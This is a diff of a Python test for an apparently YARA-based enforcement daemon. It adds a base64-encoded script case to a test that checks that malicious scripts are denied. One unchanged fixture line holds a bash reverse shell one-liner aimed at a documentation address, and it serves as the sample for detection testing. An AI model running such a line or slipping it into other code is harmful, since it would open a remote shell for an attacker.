@@ -72,7 +72,8 @@ def row01_what_is_on_the_list_is_denied(t):
 
 
 def test_yara_rules_judge(t):
-    """A reverse shell's text, on no list, by our own rules; and another by one of the user's."""
+    """A reverse shell's text, on no list, by our own rules; others by one of the user's, of which
+    one is encoded."""
     box = t.box()
     folder = t.scratch()
     with open(os.path.join(folder, "user.yar"), "w", encoding="ascii") as f:
@@ -81,8 +82,11 @@ def test_yara_rules_judge(t):
     watch = t.daemon(box, mode="enforce", content={"yara": [own, folder]})
     box.put("/tmp/r.sh", "#!/bin/sh\nexit 3\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n")
     box.put("/tmp/u.sh", "#!/bin/sh\n# a word of the user\n")
+    encoded = base64.b64encode(b"echo a word of the user, encoded").decode()
+    box.put("/tmp/e.sh", f"#!/bin/sh\nX={encoded}\nexit 3\n")
     box.put("/tmp/ok.sh", "#!/bin/sh\nexit 4\n")
-    for path, rule in (("/tmp/r.sh", "Reverse_Shell_Shell"), ("/tmp/u.sh", "User_Rule")):
+    for path, rule in (("/tmp/r.sh", "Reverse_Shell_Shell"), ("/tmp/u.sh", "User_Rule"),
+                       ("/tmp/e.sh", "User_Rule")):
         t.denied(box.run([path]))
         found = watch.finding(path=path, action="denied", rule="malicious")
         t.equal(found.finding["indicator"]["signatures"],
